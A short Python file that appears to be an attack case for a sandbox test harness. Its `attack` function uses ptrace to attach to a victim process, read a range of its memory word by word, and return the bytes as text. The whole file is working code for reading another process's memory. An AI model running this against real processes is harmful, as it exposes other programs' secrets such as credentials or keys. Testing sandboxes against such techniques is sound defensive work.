"""Stop another process with ptrace and read its memory word by word."""

import ctypes
import os

from sandbox.weapons import World, syscall

PEEK_DATA, ATTACH, DETACH = 2, 16, 17


def attack(world: World) -> object:
    syscall("ptrace", ATTACH, world["victim"], 0, 0)
    try:
        os.waitpid(world["victim"], 0)
        word = ctypes.c_long()
        found = b""
        for place in range(world["address"], world["address"] + world["length"], 8):
            syscall("ptrace", PEEK_DATA, world["victim"], place, ctypes.addressof(word))
            found += bytes(word)
    finally:
        syscall("ptrace", DETACH, world["victim"], 0, 0)
    return found[: world["length"]].decode()
